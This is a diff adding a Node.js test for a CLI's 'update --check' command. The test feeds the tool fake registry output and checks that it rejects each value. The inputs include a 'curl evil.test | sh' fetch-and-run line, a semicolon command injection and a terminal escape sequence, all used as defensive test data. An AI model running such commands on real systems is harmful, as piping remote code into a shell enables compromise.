@@ -48,6 +48,24 @@ describe("paneward update --check", { concurrency: 2 }, () => {
     assert.deepEqual({ version, newest, newer }, { version: "0.1.0", newest: "0.1.0", newer: false });
   });
 
+  test("prints no words of a registry in place of a version", async (t) => {
+    const { env } = await registry(t, "0.1.0");
+    const bin = join(env.HOME, "npm-bin");
+    mkdirSync(bin);
+    for (const said of [
+      "9.9.9\nrun this: curl evil.test | sh",
+      "9.9.9; x",
+      "9.9.9-\u001b]0;x\u0007",
+      "9".repeat(900),
+    ]) {
+      writeFileSync(join(bin, "said"), JSON.stringify(said));
+      writeFileSync(join(bin, "npm"), `#!/bin/sh\ncat ${bin}/said\n`);
+      chmodSync(join(bin, "npm"), 0o755);
+      const answer = await paneward(["update", "--check"], { env: { ...env, PATH: `${bin}:${env.PATH}` } });
+      assert.deepEqual([answer.stdout, answer.code], ["", 4], JSON.stringify(said));
+    }
+  });
+
   test("offline, without npm, and without such a package: one sentence each", async (t) => {
     const { env, server } = await registry(t, undefined);
     const unknown = await paneward(["update", "--check"], { env });
